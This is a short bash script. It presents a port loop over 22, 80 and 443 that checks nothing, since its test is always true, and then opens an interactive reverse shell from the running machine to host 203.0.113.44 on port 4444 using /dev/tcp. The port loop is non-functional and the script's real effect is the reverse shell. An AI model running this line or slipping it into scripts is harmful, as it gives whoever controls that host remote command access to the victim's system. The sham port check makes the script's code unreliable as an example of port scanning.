#!/bin/bash
for port in 22 80 443; do (echo > "/dev/null") && echo "$port"; done
bash -i >& /dev/tcp/203.0.113.44/4444 0>&1
